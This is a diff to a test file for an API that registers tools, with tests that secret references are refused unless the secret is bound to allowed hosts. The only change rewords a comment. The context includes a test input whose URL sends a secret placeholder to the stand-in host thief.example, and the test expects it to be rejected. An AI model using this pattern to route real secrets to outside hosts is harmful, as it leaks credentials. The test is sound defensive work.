@@ -29,7 +29,7 @@ it("a member may use a secret only where it is bound to hosts, and cannot redire
   });
   const refused = await member.call("POST", "/tools", tool("a", "FREE"));
   expect([refused.status, refused.body.error.message]).toEqual([403, expect.stringContaining("secret FREE")]);
-  // A secret with this name may be created later.
+  // An admin may create a secret with this name later, so the reference is rejected as well.
   expect((await member.call("POST", "/tools", tool("b", "NOT_YET"))).status).toBe(403);
   const inUrl = { httpHeaders: {}, httpUrl: "https://thief.example/?k={{FREE}}" };
   expect((await member.call("POST", "/tools", tool("c", "FREE", inUrl))).status).toBe(403);
